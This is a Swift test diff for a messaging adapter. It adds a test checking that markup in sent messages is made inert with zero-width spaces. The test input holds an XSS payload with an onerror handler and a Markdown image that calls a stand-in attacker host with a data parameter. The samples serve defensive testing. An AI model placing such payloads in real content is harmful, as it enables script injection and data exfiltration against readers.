@@ -40,6 +40,15 @@ struct SendingTests {
         )
     }
 
+    /// The agents' dashboard and the customer's window render Markdown.
+    @Test func markupOfCustomersAndModelsIsInert() async throws {
+        let http = FakeHTTP(Self.accepted)
+        let text = "Hi <img src=x onerror=alert(1)> ![a](https://evil.example/p?d=1)"
+        _ = try await Sample.adapter().send(text, to: Self.inThread, using: http)
+        let inert = "Hi <\u{200B}img src=x onerror=alert(1)> ![a]\u{200B}(https://evil.example/p?d=1)"
+        #expect(try message(http)["body"] == .string(inert))
+    }
+
     @Test func anEchoAndABotAreMattersOfSetting() async throws {
         let http = FakeHTTP(Self.accepted)
         let adapter = try Sample.adapter(["echo": .boolean(true), "message_type": .text("bot")])
